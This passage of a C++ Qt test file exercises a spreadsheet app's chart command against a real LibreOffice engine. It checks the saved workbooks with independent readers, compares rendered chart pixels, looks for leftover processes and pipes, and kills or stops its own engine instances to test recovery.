// The chart command end to end on the real engine: one click per case, and
// every check of that case made on what the one click left behind.
#include "fakecharthost.h"
#include "isolatedenvironment.h"
#include "scriptedprompts.h"

#include "app/form1.h"
#include "chart/chartcommand.h"
#include "chart/ownedworkbooks.h"
#include "chart/temporaryfolder.h"
#include "entries/chartsummary.h"
#include "entries/entrycodec.h"
#include "entries/numerictest.h"
#include "entries/sampleentries.h"
#include "ground/settingsstore.h"
#include "libreoffice/libreofficeserver.h"
#include "libreoffice/picture/exportedbands.h"
#include "libreoffice/process/engineprocess.h"
#include "preview/form2.h"
#include "preview/picturebox.h"
#include "previewzoom.h"
#include "widgets/progressjob.h"
#include "widgets/pushbutton.h"

#include <QApplication>
#include <QClipboard>
#include <QElapsedTimer>
#include <QTemporaryDir>
#include <QDir>
#include <QGuiApplication>
#include <QFile>
#include <QProcess>
#include <QProgressDialog>
#include <QPushButton>
#include <QTimer>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QThread>
#include <QTest>

#include <algorithm>
#include <csignal>
#include <optional>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>

namespace {

// Other LibreOffice instances of this user may be running beside the test; the
// question about them is answered Yes and recorded, everything else is scripted.
class ProceedingPrompts : public ScriptedPrompts
{
public:
    int runningInstanceQuestions = 0;

    MsgAnswer message(const QString &text, MsgButtons buttons, MsgIcon icon, const QString &title) override
    {
        if (buttons == MsgButtons::YesNo && text.startsWith(QLatin1String("Excel may be open."))) {
            ++runningInstanceQuestions;
            return MsgAnswer::Yes;
        }
        return ScriptedPrompts::message(text, buttons, icon, title);
    }
};

struct EngineClick {
    IsolatedEnvironment env;
    QStringList trail;
    LibreOfficeServer server;
    FakeChartHost host{&trail};
    ProceedingPrompts prompts;

    explicit EngineClick(const EntryList &entries)
    {
        // Amounts are typed as in the United States, whatever this machine says.
        server.setTypingLocale(QLocale(QLocale::English, QLocale::UnitedStates));
        host.entries = entries;
    }
    void run() { ChartCommand(prompts, server).run(host); }
    QString temp(const QString &name) const { return env.tempFolder() + QLatin1Char('/') + name; }
    QStringList tempFiles() const { return QDir(env.tempFolder()).entryList(QDir::Files | QDir::Hidden); }
};

EntryList entries(int count)
{
    const EntryList all = {{QStringLiteral("Savings"), QStringLiteral("25000")},
                           {QStringLiteral("401k"), QStringLiteral("55,000")},
                           {QStringLiteral("Stocks"), QStringLiteral("15000.5")},
                           {QStringLiteral("House"), QStringLiteral("250000")},
                           {QStringLiteral("Bonds"), QStringLiteral("11000")},
                           {QStringLiteral("Car"), QStringLiteral("7500")},
                           {QStringLiteral("Boat"), QStringLiteral("50000")},
                           {QStringLiteral("Plane"), QStringLiteral("30000")},
                           {QStringLiteral("Art"), QStringLiteral("40000")}};
    return all.mid(0, count);
}

double typedNumber(const QString &amount)
{
    return QString(amount).remove(QLatin1Char(',')).toDouble();
}

// LibreOffice's pipes' socket files of this user.
QStringList pipeFiles()
{
    return QDir(QStringLiteral("/tmp")).entryList({QStringLiteral("OSL_PIPE_%1_*").arg(getuid())},
                                                  QDir::System | QDir::Files);
}

// Whether anything listens on the socket file: a pipe nobody listens on was
// left behind.
bool isListenedOn(const QString &pipe)
{
    const QByteArray path = QFile::encodeName(QStringLiteral("/tmp/") + pipe);
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    if (size_t(path.size()) >= sizeof address.sun_path)
        return false;
    std::memcpy(address.sun_path, path.constData(), size_t(path.size()));
    const int probe = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    const bool listened = ::connect(probe, reinterpret_cast<const sockaddr *>(&address), sizeof address) == 0;
    ::close(probe);
    return listened;
}

// The pipes left behind since the list before was taken that may be this
// test's: other programs of this user start and end instances meanwhile, and
// those of another run of the program name their run.
QStringList pipesLeftSince(const QStringList &before)
{
    const QString ours = QStringLiteral("OSL_PIPE_%1_quintarra-%2-").arg(getuid()).arg(getpid());
    const QString anyRun = QStringLiteral("OSL_PIPE_%1_quintarra-").arg(getuid());
    QStringList left = pipeFiles();
    left.removeIf([&](const QString &pipe) {
        return before.contains(pipe) || (pipe.startsWith(anyRun) && !pipe.startsWith(ours)) || isListenedOn(pipe);
    });
    return left;
}

// soffice.bin processes that are children of this test and still alive.
QStringList ourEngines()
{
    QStringList found;
    const QStringList entries = QDir(QStringLiteral("/proc")).entryList(QDir::Dirs | QDir::NoDotAndDotDot);
    for (const QString &entry : entries) {
        QFile stat(QStringLiteral("/proc/%1/stat").arg(entry));
        if (!stat.open(QIODevice::ReadOnly))
            continue;
        // pid (comm) state ppid ...
        const QString text = QString::fromLocal8Bit(stat.readAll());
        const qsizetype close = text.lastIndexOf(QLatin1Char(')'));
        const QStringList rest = text.mid(close + 2).split(QLatin1Char(' '));
        if (text.contains(QLatin1String("(soffice.bin)")) && rest.size() > 1 && rest.at(0) != QLatin1String("Z")
            && rest.at(1).toLongLong() == QCoreApplication::applicationPid())
            found << entry;
    }
    for (qint64 pid : EngineProcess::startedPids()) {
        if (::kill(pid_t(pid), 0) == 0 && !found.contains(QString::number(pid)))
            found << QString::number(pid);
    }
    return found;
}

// How many pixels of the picture lie within tolerance of the colour.
int pixelsNear(const QImage &picture, QRgb colour, int tolerance = 16)
{
    const QImage image = picture.convertToFormat(QImage::Format_RGB32);
    int count = 0;
    for (int y = 0; y < image.height(); ++y) {
        const QRgb *line = reinterpret_cast<const QRgb *>(image.constScanLine(y));
        for (int x = 0; x < image.width(); ++x) {
            if (std::abs(qRed(line[x]) - qRed(colour)) <= tolerance
                && std::abs(qGreen(line[x]) - qGreen(colour)) <= tolerance
                && std::abs(qBlue(line[x]) - qBlue(colour)) <= tolerance)
                ++count;
        }
    }
    return count;
}

// LibreOffice keeps a format in its own spelling: after the .xls round trip
// the accounting format reads _(\$* #,##0_);_(\$* \(#,##0\);_(\$* -??_);_(@_),
// which shows exactly what the quoted form does. Compared without the escapes.
QString displayedAlike(QString format)
{
    return format.remove(QLatin1Char('\\')).remove(QLatin1Char('"'));
}

// The template's slice colours, then the engine's own palette's from the
// seventh slice on.
const QList<QRgb> kSliceColours = {0x92A081, 0xD7913E, 0xCDA623, 0xB88193, 0x8A75AA,
                                   0x718BAC, 0x314004, 0xAECF00, 0x4B1F6F};

// gnumeric's reader, independent of the engine that wrote the file.
QString ssconvert(const QString &workbook, const QString &target, const QStringList &options = {})
{
    QProcess process;
    process.start(QStringLiteral("ssconvert"), options + QStringList{workbook, target});
    if (!process.waitForFinished(120000) || process.exitCode() != 0)
        return QStringLiteral("ssconvert failed: ") + QString::fromLocal8Bit(process.readAllStandardError());
    QFile file(target);
    if (!file.open(QIODevice::ReadOnly))
        return QStringLiteral("ssconvert wrote nothing");
    return QString::fromUtf8(file.readAll());
}

EntryList numberedEntries(int count)
{
    EntryList list;
    for (int i = 1; i <= count; ++i)
        list.append({QStringLiteral("Asset %1").arg(i), QString::number(1000 * i + 250)});
    return list;
}

// What a click on a list of numbered rows hands to the preview.
struct ClickedPicture {
    QImage picture;
    QStringList errorReports;
};
ClickedPicture clickedPicture(int rows)
{
    EngineClick click(numberedEntries(rows));
    click.run();
    return {click.host.picture.convertToFormat(QImage::Format_RGB32), click.prompts.errorReports()};
}

bool isWhite(QRgb pixel)
{
    return qRed(pixel) > 245 && qGreen(pixel) > 245 && qBlue(pixel) > 245;
}

// How many lines of white lie along the picture's right and bottom edges.
QSize whiteMargins(const QImage &picture)
{
    const QImage image = picture.convertToFormat(QImage::Format_RGB32);
    int right = 0;
    for (int x = image.width() - 1; x >= 0; --x, ++right) {
        bool white = true;
        for (int y = 0; y < image.height() && white; ++y)
            white = isWhite(image.pixel(x, y));
        if (!white)
            break;
    }
    int bottom = 0;
    for (int y = image.height() - 1; y >= 0; --y, ++bottom) {
        const QRgb *line = reinterpret_cast<const QRgb *>(image.constScanLine(y));
        if (!std::all_of(line, line + image.width(), isWhite))
            break;
    }
    return {right, bottom};
}

// The phases of one chart at which the engine instance is upset.
enum class Phase { Opening, Filling, Saving, BetweenInstances, Rendering, Quitting };

// The product's engine, with one instance sent a signal (SIGKILL, SIGSTOP) the
// moment the command reaches the phase; every call is passed on unchanged.
class UpsettingServer : public SpreadsheetServer
{
public:
    UpsettingServer(LibreOfficeServer &inner, Phase phase, int signal)
        : mInner(inner), mPhase(phase), mSignal(signal) {}

    void reached(Phase phase, qint64 pid)
    {
        if (phase != mPhase || mDone || pid <= 0)
            return;
        mDone = true;
        ::kill(pid_t(pid), mSignal);
        // The call goes to an instance already dead or stopped, every thread
        // of it: the kernel tells its parent (this test) so, and leaves the
        // news for the adapter to collect.
        QElapsedTimer waited;
        waited.start();
        while (waited.elapsed() < 10000) {
            siginfo_t news{};
            // An error: nothing of it is left to wait for.
            if (::waitid(P_PID, id_t(pid), &news, WEXITED | WSTOPPED | WNOHANG | WNOWAIT) != 0 || news.si_pid != 0)
                break;
            QThread::usleep(500);
        }
    }
    bool upset() const { return mDone; }

    std::unique_ptr<Application> create() override;
    std::unique_ptr<Application> getRunning() override { return mInner.getRunning(); }
    QString expectedProductName() const override { return mInner.expectedProductName(); }
    void startAheadOfNeed() override
    {
        const QList<qint64> before = EngineProcess::startedPids();
        mInner.startAheadOfNeed();
        for (qint64 pid : EngineProcess::startedPids())
            if (!before.contains(pid))
                mAhead = pid;
    }
    void dropStartedAhead() override { mInner.dropStartedAhead(); }

private:
    LibreOfficeServer &mInner;
    Phase mPhase;
    int mSignal;
    bool mDone = false;
    int mCreated = 0;
    qint64 mAhead = 0;
};

class UpsettingSheet : public Worksheet
{
public:
    UpsettingSheet(UpsettingServer &server, qint64 pid, std::shared_ptr<Worksheet> inner)
        : mServer(server), mPid(pid), mInner(std::move(inner)) {}
    QString name() override { return mInner->name(); }
    void setCellText(int r, int c, const QString &t) override { mInner->setCellText(r, c, t); }
    void setCellValue(int r, int c, const QString &t) override { mInner->setCellValue(r, c, t); }
    void setCellNumberFormat(int r, int c, const QString &f) override { mInner->setCellNumberFormat(r, c, f); }
    void setTextAndAmountRows(int first, int column, const QList<TextAndAmount> &rows) override
    {
        mServer.reached(Phase::Filling, mPid);
        mInner->setTextAndAmountRows(first, column, rows);
    }
    void setRangeNumberFormat(int first, int last, int column, const QString &format) override
    {
        mInner->setRangeNumberFormat(first, last, column, format);
    }
    QVariant cellValue(int r, int c) override { return mInner->cellValue(r, c); }
    QString cellNumberFormat(int r, int c) override { return mInner->cellNumberFormat(r, c); }
    void extendChartsTo(int lastRow) override { mInner->extendChartsTo(lastRow); }
    void drawChartsFlat(int smallestLabelledShare) override { mInner->drawChartsFlat(smallestLabelledShare); }
    QImage usedRangePicture() override
    {
        mServer.reached(Phase::Rendering, mPid);
        return mInner->usedRangePicture();
    }
    QImage usedRangePictureDroppingDrawings(const PictureFirstView &firstView) override
    {
        mServer.reached(Phase::Rendering, mPid);
        return mInner->usedRangePictureDroppingDrawings(firstView);
    }

private:
    UpsettingServer &mServer;
    qint64 mPid;
    std::shared_ptr<Worksheet> mInner;
};

class UpsettingWorkbook : public Workbook
{
public:
    UpsettingWorkbook(UpsettingServer &server, qint64 pid, std::shared_ptr<Workbook> inner)
        : mServer(server), mPid(pid), mInner(std::move(inner)) {}
    std::shared_ptr<Worksheet> activeSheet() override
    {
        return std::make_shared<UpsettingSheet>(mServer, mPid, mInner->activeSheet());
    }
    void saveAs(const QString &path) override
    {
        mServer.reached(Phase::Saving, mPid);
        mInner->saveAs(path);
    }
    void close() override { mInner->close(); }

private:
    UpsettingServer &mServer;
    qint64 mPid;
    std::shared_ptr<Workbook> mInner;
};

class UpsettingApplication : public Application, private Workbooks
{
public:
    UpsettingApplication(UpsettingServer &server, std::unique_ptr<Application> inner, bool first)
        : mServer(server), mInner(std::move(inner)), mPid(EngineProcessId(*mInner)), mFirst(first) {}
    QString defaultValue() override { return mInner->defaultValue(); }
    Workbooks &workbooks() override { return *this; }
    void setDisplayAlerts(bool on) override { mInner->setDisplayAlerts(on); }
    void quit() override
    {
        if (mFirst)
            mServer.reached(Phase::Quitting, mPid);
        mInner->quit();
    }

private:
    std::shared_ptr<Workbook> open(const QString &path) override
    {
        if (mFirst)
            mServer.reached(Phase::Opening, mPid);
        return wrap(mInner->workbooks().open(path));
    }
    int count() override { return mInner->workbooks().count(); }
    std::shared_ptr<Workbook> item(int index) override { return wrap(mInner->workbooks().item(index)); }
    std::shared_ptr<Workbook> wrap(std::shared_ptr<Workbook> book)
    {
        return std::make_shared<UpsettingWorkbook>(mServer, mPid, std::move(book));
    }

    UpsettingServer &mServer;
    std::unique_ptr<Application> mInner;
    qint64 mPid;
    bool mFirst;
};

std::unique_ptr<Application> UpsettingServer::create()
{
    // The instance started ahead of need, upset while the first one winds down.
    if (++mCreated == 2)
        reached(Phase::BetweenInstances, mAhead);
    return std::make_unique<UpsettingApplication>(*this, mInner.create(), mCreated == 1);
}

// Debian's xlrd, a reader independent of the engine that evaluates nothing:
// for each of the rows, the type and value of columns A and B, then the
// number format of column B, tab-separated.
QString xlrd(const QString &workbook, int firstRow, int lastRow)
{
    static const char script[] = R"(
import sys, xlrd
book = xlrd.open_workbook(sys.argv[1], formatting_info=True)
sheet = book.sheet_by_index(0)
kinds = {xlrd.XL_CELL_TEXT: 'text', xlrd.XL_CELL_NUMBER: 'number', xlrd.XL_CELL_EMPTY: 'empty',
         xlrd.XL_CELL_BLANK: 'empty'}
for row in range(int(sys.argv[2]) - 1, int(sys.argv[3])):
    fields = []
    for column in (0, 1):
        cell = sheet.cell(row, column)
        fields += [kinds.get(cell.ctype, 'other %d' % cell.ctype), cell.value if cell.ctype != xlrd.XL_CELL_NUMBER else repr(cell.value)]
    fields.append(book.format_map[book.xf_list[sheet.cell(row, 1).xf_index].format_key].format_str)
    print('\t'.join(str(f) for f in fields))
)";
    QProcess process;
    // The system's interpreter, where Debian's module is.
    process.start(QStringLiteral("/usr/bin/python3"),
                  {QStringLiteral("-c"), QString::fromLatin1(script), workbook, QString::number(firstRow),
                   QString::number(lastRow)});
    if (!process.waitForFinished(60000) || process.exitCode() != 0)
        return QStringLiteral("xlrd failed: ") + QString::fromLocal8Bit(process.readAllStandardError());
    return QString::fromUtf8(process.readAllStandardOutput());
}

// LibreOffice's .xlsx export of the workbook read with zipfile: the kind of
// the pie ("pieChart" or "pie3DChart"), the ranges its series reads, and the
// points that have a label, by their own setting or by the series'.
QString xlsxPie(const QString &xlsx)
{
    static const char script[] = R"(
import re, sys, zipfile
import xml.etree.ElementTree as ElementTree
c = '{http://schemas.openxmlformats.org/drawingml/2006/chart}'
with zipfile.ZipFile(sys.argv[1]) as package:
    name = next(n for n in sorted(package.namelist()) if re.match(r'xl/charts/chart\d+\.xml$', n))
    plot = ElementTree.fromstring(package.read(name)).find('.//' + c + 'plotArea')
pie = next(child for child in plot if child.tag.endswith('Chart'))
print('kind', pie.tag[len(c):])
series = pie.find(c + 'ser')
for formula in series.iter(c + 'f'):
    print('range', formula.text)
def shows(element):
    return any(element.find(c + flag) is not None and element.find(c + flag).get('val') in ('1', 'true')
               for flag in ('showVal', 'showPercent', 'showCatName', 'showSerName'))
labels = series.find(c + 'dLbls')
own = {int(label.find(c + 'idx').get('val')): shows(label) for label in labels.findall(c + 'dLbl')}
points = int(series.find(c + 'val').find('.//' + c + 'ptCount').get('val'))
print('labelled', ' '.join(str(i) for i in range(points) if own.get(i, shows(labels))))
a = '{http://schemas.openxmlformats.org/drawingml/2006/main}'
def outlined(owner):
    line = owner.find(c + 'spPr/' + a + 'ln')
    return line is not None and line.find(a + 'noFill') is None
print('outlined', any(outlined(owner) for owner in [series] + series.findall(c + 'dPt')))
)";
    QProcess process;
    process.start(QStringLiteral("/usr/bin/python3"), {QStringLiteral("-c"), QString::fromLatin1(script), xlsx});
    if (!process.waitForFinished(60000) || process.exitCode() != 0)
        return QStringLiteral("reading the .xlsx failed: ") + QString::fromLocal8Bit(process.readAllStandardError());
    return QString::fromUtf8(process.readAllStandardOutput());
}

// A listening socket on 127.0.0.1: the kernel queues any connection to it
// while the test is busy in the command, to be found afterwards.
class LoopbackListener
{
public:
    LoopbackListener()
    {
        mFd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in address {};
        address.sin_family = AF_INET;
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        socklen_t length = sizeof address;
        if (mFd >= 0 && ::bind(mFd, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0
            && ::listen(mFd, 16) == 0 && ::getsockname(mFd, reinterpret_cast<sockaddr *>(&address), &length) == 0)
            mPort = ntohs(address.sin_port);
    }
    ~LoopbackListener() { ::close(mFd); }
    int port() const { return mPort; }
    bool wasReached() const
    {
        pollfd waiting {mFd, POLLIN, 0};
        return ::poll(&waiting, 1, 500) > 0;
    }

private:
    int mFd = -1;
    int mPort = 0;
};

// Set in the environment of a copy of this program that stands for a second
// copy of Quintarra: it makes one chart and says what it got.
constexpr char kSecondCopy[] = "QUINTARRA_TEST_SECOND_COPY";
// How many numbered rows the second copy charts; two short rows unless set.
constexpr char kSecondCopyRows[] = "QUINTARRA_TEST_SECOND_COPY_ROWS";

int runAsSecondCopy(int argc, char **argv)
{
    QApplication application(argc, argv);
    // The folders are the ones the first copy gave it.
    QStringList trail;
    LibreOfficeServer server;
    server.setTypingLocale(QLocale(QLocale::English, QLocale::UnitedStates));
    FakeChartHost host(&trail);
    const int rows = qEnvironmentVariableIntValue(kSecondCopyRows);
    host.entries = rows > 0 ? numberedEntries(rows) : entries(2);
    ProceedingPrompts prompts;
    ChartCommand(prompts, server).run(host);
    std::printf("reports %d\n%s\n", int(prompts.errorReports().size()), qPrintable(host.workbook));
    return 0;
}

// Polls closely, without handling events (the moment can be short), until
// the condition holds, the second copy has ended or two minutes have passed.
// QProcess learns of the copy's end only from the event loop; the kernel is
// asked instead, and the news is left for QProcess to collect.
template<typename Condition>
void waitWhileSecondCopyRuns(const QProcess &copy, Condition &&holds)
{
    QElapsedTimer waited;
    waited.start();
    while (!holds() && waited.elapsed() < 120000) {
        siginfo_t ended{};
        if (::waitid(P_PID, id_t(copy.processId()), &ended, WEXITED | WNOHANG | WNOWAIT) != 0 || ended.si_pid != 0)
            return;
        QThread::usleep(500);
    }
}

} // namespace

class TestChartCommandEngine : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void endToEnd_data();
    void endToEnd();
    void pictureEdges_data();
    void pictureEdges();
    void drawnAsTheExportDraws_data();
    void drawnAsTheExportDraws();
    void longListPicture_data();
    void longListPicture();
    void pieOfALongList_data();
    void pieOfALongList();
    void failingStepGoesOn();
    void mainWindowButton();
    void chartInProgress_data();
    void chartInProgress();
    void engineUpset_data();
    void engineUpset();
    void hostileInputStaysText();
    void twoCopiesShareAFolder_data();
    void twoCopiesShareAFolder();
    void amountsTooLargeToTotal();
    void killedWhileThePictureIsWritten_data();
    void killedWhileThePictureIsWritten();
    void cleanupTestCase();
};

void TestChartCommandEngine::initTestCase()
{
    QVERIFY2(!QStandardPaths::findExecutable(QStringLiteral("ssconvert")).isEmpty(),
             "gnumeric's ssconvert is needed: ./test.sh installs it");
}

void TestChartCommandEngine::endToEnd_data()
{
    QTest::addColumn<int>("rows");
    QTest::newRow("empty list") << 0;
    QTest::newRow("three rows") << 3;
    QTest::newRow("nine rows") << 9;
}

void TestChartCommandEngine::endToEnd()
{
    QFETCH(int, rows);
    EngineClick click(entries(rows));
    click.run();

    QCOMPARE(click.prompts.errorReports(), QStringList{});
    QCOMPARE(click.host.pointers, (QList<qint16>{11, 0, 11, 0}));
    QVERIFY(click.host.previewShown);
    QVERIFY(click.host.mainHidden);
    // The sheet's picture stays on the clipboard.
    QCOMPARE(QGuiApplication::clipboard()->image().size(), click.host.picture.size());

    // Only the workbook is left, under a fresh name, for the preview to own.
    const QString book = click.host.workbook;
    static const QRegularExpression form(QStringLiteral("^tervik[1-9]{8}\\.xls$"));
    QCOMPARE(QFileInfo(book).absolutePath(), click.env.tempFolder());
    QVERIFY2(form.match(QFileInfo(book).fileName()).hasMatch(), qPrintable(book));
    QCOMPARE(click.tempFiles(), QStringList{QFileInfo(book).fileName()});

    QCOMPARE(GetSetting(kSettingsApp, kSettingsSection, QStringLiteral("Assets"), QStringLiteral("<none>")),
             EncodeEntryList(click.host.entries));

    // The picture shows the table and the pie beside it: one slice colour per
    // row, and none for rows the list does not have.
    const QImage picture = click.host.picture;
    QVERIFY2(picture.width() >= 700 && picture.width() <= 3000, qPrintable(QString::number(picture.width())));
    QVERIFY2(picture.height() >= 350 && picture.height() <= 2000, qPrintable(QString::number(picture.height())));
    for (int i = 0; i < kSliceColours.size(); ++i) {
        const int count = pixelsNear(picture, kSliceColours.at(i));
        const QString what = QStringLiteral("slice %1: %2 pixels").arg(i + 1).arg(count);
        if (i < rows)
            QVERIFY2(count >= 1000, qPrintable(what));
        else
            QVERIFY2(count < 20, qPrintable(what));
    }

    // What the engine reads back from the saved file.
    const int lastRow = std::max(9, rows + 3) + 1;
    {
        auto app = click.server.create();
        auto sheet = app->workbooks().open(book)->activeSheet();
        QCOMPARE(sheet->name(), QStringLiteral("Assets"));
        QCOMPARE(sheet->cellValue(3, 1).toString(), QStringLiteral("Asset Type"));
        for (int row = 4; row <= lastRow; ++row) {
            const int i = row - 4;
            if (i < rows) {
                QCOMPARE(sheet->cellValue(row, 1).toString(), click.host.entries.at(i).label);
                const QVariant amount = sheet->cellValue(row, 2);
                QCOMPARE(amount.typeId(), QMetaType::Double);
                QCOMPARE(amount.toDouble(), typedNumber(click.host.entries.at(i).amount));
                QCOMPARE(displayedAlike(sheet->cellNumberFormat(row, 2)), displayedAlike(kAccountingFormat));
            } else {
                QVERIFY2(!sheet->cellValue(row, 1).isValid(), qPrintable(QStringLiteral("A%1").arg(row)));
                QVERIFY2(!sheet->cellValue(row, 2).isValid(), qPrintable(QStringLiteral("B%1").arg(row)));
            }
        }
        app->quit();
    }

    // What an independent reader finds: the values, and the chart over every
    // row, or over the template's rows 4 to 9 for a list that fits them.
    const QString csv = ssconvert(book, click.env.root() + QStringLiteral("/book.csv"),
                                  {QStringLiteral("--export-type=Gnumeric_stf:stf_csv")});
    // The export begins at the first used row, the headers.
    QStringList lines = csv.split(QLatin1Char('\n'));
    while (!lines.isEmpty() && !lines.first().startsWith(QLatin1String("\"Asset Type\",Amount,")))
        lines.removeFirst();
    QVERIFY2(lines.size() > lastRow - 3, qPrintable(csv));
    for (int row = 4; row <= lastRow; ++row) {
        const QStringList fields = lines.at(row - 3).split(QLatin1Char(','));
        const int i = row - 4;
        if (i < rows) {
            QCOMPARE(fields.value(0), click.host.entries.at(i).label);
            QCOMPARE(fields.value(1).toDouble(), typedNumber(click.host.entries.at(i).amount));
        } else {
            QVERIFY2(fields.value(0).isEmpty() && fields.value(1).isEmpty(), qPrintable(lines.at(row - 3)));
        }
    }
    const QString gnumeric = ssconvert(book, click.env.root() + QStringLiteral("/book.gnumeric"),
                                       {QStringLiteral("-T"), QStringLiteral("Gnumeric_XmlIO:sax:0")});
    QVERIFY2(gnumeric.contains(QLatin1String("GogPiePlot")), qPrintable(gnumeric.left(300)));
    const int chartEnd = std::max(9, rows + 3);
    QVERIFY(gnumeric.contains(QStringLiteral("Assets!$B$4:$B$%1").arg(chartEnd)));
    QVERIFY(gnumeric.contains(QStringLiteral("Assets!$A$4:$A$%1").arg(chartEnd)));

    // Every written amount carries exactly the format of the template's own
    // formatted cells, locale prefix and all, as another reader sees it.
    const QString templateCopy = click.env.root() + QStringLiteral("/template.xlt");
    QVERIFY(QFile::copy(kTemplateResource, templateCopy));
    const QString templateFormat = xlrd(templateCopy, 7, 7).trimmed().section(QLatin1Char('\t'), 4);
    QVERIFY2(templateFormat.startsWith(QLatin1String("_(")), qPrintable(templateFormat));
    const QStringList written = xlrd(book, 4, rows + 3).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(written.size(), rows);
    for (const QString &line : written)
        QCOMPARE(line.section(QLatin1Char('\t'), 4), templateFormat);

    QCOMPARE(ourEngines(), QStringList{});
}

void TestChartCommandEngine::pictureEdges_data()
{
    QTest::addColumn<int>("rows");
    QTest::addColumn<int>("bottomMargin");   // at most, in pixels
    QTest::addColumn<int>("bottomLine");     // pixels of the last row drawn, at least
    // The chart's frame is the lowest thing drawn: its line is the last row.
    QTest::newRow("6 rows: the chart ends it") << 6 << 0 << 800;
    // Below the last row's text lies the rest of that row, and nothing more.
    QTest::newRow("60 rows: the last row ends it") << 60 << 8 << 0;
}

// The picture ends where the chart's frame and the last row do, so that at the
// end of a scroll or drag they sit at the viewport's edges.
void TestChartCommandEngine::pictureEdges()
{
    QFETCH(int, rows);
    QFETCH(int, bottomMargin);
    QFETCH(int, bottomLine);
    EngineClick click(numberedEntries(rows));
    click.run();
    QCOMPARE(click.prompts.errorReports(), QStringList{});
    const QImage picture = click.host.picture.convertToFormat(QImage::Format_RGB32);
    QVERIFY(!picture.isNull());
    const QSize margins = whiteMargins(picture);
    QCOMPARE(margins.width(), 0);
    QVERIFY2(margins.height() <= bottomMargin, qPrintable(QStringLiteral("bottom: %1 px").arg(margins.height())));
    // The chart's frame whole: its right line is the last column, drawn down
    // most of the chart's 465 pixels.
    int rightLine = 0;
    for (int y = 0; y < picture.height(); ++y)
        rightLine += !isWhite(picture.pixel(picture.width() - 1, y));
    QVERIFY2(rightLine >= 400, qPrintable(QStringLiteral("right line: %1 px").arg(rightLine)));
    const QRgb *last = reinterpret_cast<const QRgb *>(picture.constScanLine(picture.height() - 1));
    const auto drawn = std::count_if(last, last + picture.width(), [](QRgb pixel) { return !isWhite(pixel); });
    QVERIFY2(drawn >= bottomLine, qPrintable(QStringLiteral("bottom line: %1 px").arg(drawn)));
    // Each row takes its height and no more: from the header down to the last
    // list row at 15 pt a row, drawn in whole pixels a hair short of 20.
    if (rows > 30)
        QVERIFY2(std::abs(picture.height() - (rows + 1) * 19) <= 2, qPrintable(QString::number(picture.height())));
}

void TestChartCommandEngine::drawnAsTheExportDraws_data()
{
    QTest::addColumn<int>("rows");
    QTest::newRow("6 rows: one band") << 6;
    QTest::newRow("450 rows: bands meeting below the chart") << 450;
}

// The picture drawn straight onto the engine's surface is the one its picture
// export makes of the same sheet, band by band, to the pixel but for the
// shading of edges.
void TestChartCommandEngine::drawnAsTheExportDraws()
{
    QFETCH(int, rows);
    QImage pictures[2];
    for (const bool directly : {true, false}) {
        std::optional<ExportedBands> exported;
        if (!directly)
            exported.emplace();
        const auto [picture, errorReports] = clickedPicture(rows);
        QCOMPARE(errorReports, QStringList{});
        pictures[directly ? 0 : 1] = picture;
    }
    QVERIFY(!pictures[0].isNull());
    QCOMPARE(pictures[0].size(), pictures[1].size());
    qint64 differing = 0;
    for (int y = 0; y < pictures[0].height(); ++y) {
        const QRgb *direct = reinterpret_cast<const QRgb *>(pictures[0].constScanLine(y));
        const QRgb *exported = reinterpret_cast<const QRgb *>(pictures[1].constScanLine(y));
        for (int x = 0; x < pictures[0].width(); ++x) {
            const int distance = std::max({std::abs(qRed(direct[x]) - qRed(exported[x])),
                                           std::abs(qGreen(direct[x]) - qGreen(exported[x])),
                                           std::abs(qBlue(direct[x]) - qBlue(exported[x]))});
            differing += distance > 48;
        }
    }
    const qint64 all = qint64(pictures[0].width()) * pictures[0].height();
    QVERIFY2(differing * 1000 <= all * 5, qPrintable(QStringLiteral("%1 of %2 pixels differ").arg(differing).arg(all)));
}

void TestChartCommandEngine::longListPicture_data()
{
    QTest::addColumn<int>("rows");
    QTest::addColumn<int>("minWidth");
    QTest::addColumn<int>("maxHeight");
    QTest::newRow("2,000 rows: drawn whole, reduced here") << 2000 << 800 << 32767;
    QTest::newRow("5,000 rows: drawn reduced by the engine") << 5000 << 400 << 60000;
}

// Far longer than the engine can draw in one piece: still a picture, within
// the size limits, showing every row down to the last at its bottom edge.
void TestChartCommandEngine::longListPicture()
{
    QFETCH(int, rows);
    QFETCH(int, minWidth);
    QFETCH(int, maxHeight);
    EngineClick click(numberedEntries(rows));
    click.run();
    QVERIFY2(click.prompts.errorReports().isEmpty(), qPrintable(click.prompts.errorReports().join(u'\n')));
    const QImage picture = click.host.picture.convertToFormat(QImage::Format_RGB32);
    QVERIFY(!picture.isNull());
    QVERIFY2(picture.height() <= maxHeight && picture.height() > 30000, qPrintable(QString::number(picture.height())));
    QVERIFY2(picture.width() > minWidth, qPrintable(QString::number(picture.width())));
    const QSize margins = whiteMargins(picture);
    QVERIFY2(margins.height() <= 8, qPrintable(QStringLiteral("bottom: %1 px").arg(margins.height())));
    QVERIFY2(margins.width() <= 2, qPrintable(QStringLiteral("right: %1 px").arg(margins.width())));
    // Every row's label is there: no white stretch where the engine stopped
    // drawing a band, or where two bands do not meet.
    const double rowPixels = double(picture.height()) / (rows + 3);
    int blank = 0, longestBlank = 0;
    for (int y = 0; y < picture.height(); ++y) {
        const QRgb *line = reinterpret_cast<const QRgb *>(picture.constScanLine(y));
        blank = std::all_of(line, line + picture.width() / 8, isWhite) ? blank + 1 : 0;
        longestBlank = std::max(longestBlank, blank);
    }
    QVERIFY2(longestBlank <= 2 * rowPixels, qPrintable(QStringLiteral("white for %1 px").arg(longestBlank)));
}

void TestChartCommandEngine::pieOfALongList_data()
{
    QTest::addColumn<int>("rows");
    QTest::addColumn<bool>("threeD");
    QTest::newRow("the most rows drawn in 3-D: every slice labelled") << kMostSlicesIn3D << true;
    QTest::newRow("one row more: flat, thin slices unlabelled") << kMostSlicesIn3D + 1 << false;
}

// Every row is a slice whatever the list's length; a pie too long for the
// engine's 3-D scene is drawn flat, and labels only the slices whose label
// reads 1% or more, among the template's own six points as among the others;
